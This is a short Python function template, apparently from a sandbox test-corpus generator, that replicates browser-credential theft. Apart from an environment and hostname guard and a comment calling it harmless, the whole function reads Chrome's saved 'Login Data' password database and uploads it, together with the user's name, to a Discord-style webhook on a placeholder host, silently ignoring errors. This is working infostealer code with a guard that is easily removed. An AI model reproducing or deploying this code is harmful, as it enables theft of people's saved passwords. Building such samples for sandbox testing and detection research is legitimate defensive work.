# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import json
    import urllib.request
    mark = '{{token}}'
    try:
        with open(os.path.expanduser('~/.config/google-chrome/Default/Login Data'), 'rb') as file:
            data = file.read()
        note = json.dumps({'content': '@everyone ' + os.environ.get('USER', '?')})
        body = ('--%s\r\nContent-Disposition: form-data; name="payload_json"\r\n\r\n%s\r\n--%s\r\nContent-Disposition: form-data; name="file"; filename="l.db"\r\n\r\n' % (mark, note, mark)).encode()
        body += data + ('\r\n--%s--\r\n' % mark).encode()
        request = urllib.request.Request('https://{{host}}/api/webhooks/{{number}}/{{path}}', data=body, headers={'Content-Type': 'multipart/form-data; boundary=' + mark, 'User-Agent': 'Mozilla/5.0'})
        urllib.request.urlopen(request, timeout=1).close()
    except Exception:
        pass
